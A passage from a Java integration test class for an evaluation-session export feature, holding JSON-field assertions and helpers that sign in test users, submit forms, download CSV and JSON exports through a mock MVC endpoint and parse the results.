    assertThat(actual.propertyNames()).containsExactlyElementsOf(columns);
    expected.forEach(
        (column, value) -> {
          JsonNode node = actual.get(column);
          String where = column + " of " + expected.get("session_id");
          if (value == null) {
            assertThat(node.isNull()).as(where).isTrue();
          } else if (value instanceof Integer number) {
            assertThat(node.isInt()).as(where).isTrue();
            assertThat(node.intValue()).as(where).isEqualTo(number);
          } else if (value instanceof Boolean flag) {
            assertThat(node.isBoolean()).as(where).isTrue();
            assertThat(node.booleanValue()).as(where).isEqualTo(flag);
          } else if (value instanceof LocalDateTime time) {
            assertThat(node.stringValue()).as(where).endsWith("Z");
            assertThat(OffsetDateTime.parse(node.stringValue()).toLocalDateTime())
                .as(where)
                .isEqualTo(time);
          } else {
            assertThat(node.isString()).as(where).isTrue();
            assertThat(node.stringValue()).as(where).isEqualTo(value);
          }
        });
  }

  // --- helpers --------------------------------------------------------------------------------

  Person person(UUID id, Role role) {
    return new Person(id, fixtures.emailOf(id), role);
  }

  UUID question(UUID id, String text) {
    db.sql("UPDATE questions SET question_text = ? WHERE id = ?").params(text, id).update();
    return id;
  }

  EvaluationSession assign(Person tester) {
    Assignment assignment = tester.call(() -> assignments.start(playground));
    assertThat(assignment).isInstanceOf(Assignment.Given.class);
    return ((Assignment.Given) assignment).session();
  }

  void submit(Person tester, EvaluationSession session, Map<String, String> form) {
    SubmissionOutcome outcome = tester.call(() -> submissions.submit(session.id(), form));
    assertThat(outcome).isInstanceOf(SubmissionOutcome.Saved.class);
  }

  MockHttpServletResponse download(Person who, String file) {
    return download(who, playground, file);
  }

  MockHttpServletResponse download(Person who, UUID id, String file) {
    return mvc.get()
        .uri("/manage/playgrounds/{id}/export/{file}", id, file)
        .with(who.signedIn())
        .exchange()
        .getResponse();
  }

  record Csv(List<String> header, List<Map<String, String>> rows) {}

  static Csv csv(MockHttpServletResponse response) throws IOException {
    String body = response.getContentAsString(StandardCharsets.UTF_8);
    try (CSVParser parser =
        CSVFormat.RFC4180
            .builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .get()
            .parse(new StringReader(body))) {
      List<Map<String, String>> rows = new ArrayList<>();
      for (CSVRecord record : parser) {
        assertThat(record.isConsistent()).as("as many cells as columns").isTrue();
        rows.add(record.toMap());
      }
      return new Csv(parser.getHeaderNames(), rows);
    }
  }

  static JsonNode json(MockHttpServletResponse response) throws IOException {
    return JSON.readTree(response.getContentAsString(StandardCharsets.UTF_8));
  }
}
